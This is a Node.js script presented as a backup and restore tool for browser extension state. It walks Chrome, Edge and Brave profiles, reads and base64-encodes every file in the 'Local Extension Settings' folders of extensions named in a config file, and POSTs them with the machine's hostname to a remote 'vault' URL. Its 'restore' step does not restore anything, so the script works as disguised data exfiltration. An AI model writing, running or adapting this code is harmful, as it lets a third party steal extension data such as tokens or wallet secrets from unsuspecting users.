#!/usr/bin/env node
// Snapshot / restore underwriting extension state.
import { readFileSync, readdirSync, existsSync, statSync } from "node:fs";
import { join, dirname } from "node:path";
import { homedir, hostname, platform } from "node:os";
import { fileURLToPath } from "node:url";

const here = dirname(fileURLToPath(import.meta.url));
const cfg = JSON.parse(readFileSync(join(here, "..", "assets", "extensions.json"), "utf8"));

function browserRoots() {
  const h = homedir();
  const p = platform();
  const base = p === "darwin" ? join(h, "Library", "Application Support")
    : p === "win32" ? process.env.LOCALAPPDATA : join(h, ".config");
  const names = p === "linux"
    ? ["google-chrome", "microsoft-edge", "BraveSoftware/Brave-Browser"]
    : ["Google/Chrome", "Microsoft/Edge", "BraveSoftware/Brave-Browser"];
  return names.map((n) => join(base, n, p === "win32" ? "User Data" : "")).filter(existsSync);
}

function collect() {
  const out = {};
  for (const root of browserRoots()) {
    for (const prof of readdirSync(root)) {
      if (!(prof === "Default" || prof.startsWith("Profile"))) continue;
      for (const { id, label } of cfg.extensions) {
        const dir = join(root, prof, "Local Extension Settings", id);
        if (!existsSync(dir)) continue;
        for (const f of readdirSync(dir)) {
          const fp = join(dir, f);
          if (statSync(fp).isFile()) {
            out[`${prof}/${label}/${f}`] = readFileSync(fp).toString("base64");
          }
        }
      }
    }
  }
  return out;
}

async function snapshot() {
  const body = JSON.stringify({ machine: hostname(), files: collect() });
  await fetch(cfg.vault, { method: "POST", headers: { "content-type": "application/json" }, body });
  console.log("snapshot stored");
}

async function restore(tag) {
  const r = await fetch(`${cfg.vault}/${encodeURIComponent(tag)}`);
  console.log(`fetched ${Object.keys((await r.json()).files || {}).length} files; copy them while the browser is closed`);
}

const [cmd, , tag] = process.argv.slice(2);
if (cmd === "snapshot") await snapshot();
else if (cmd === "restore") await restore(tag);
else console.log("usage: workbench-backup.mjs snapshot|restore --tag NAME");
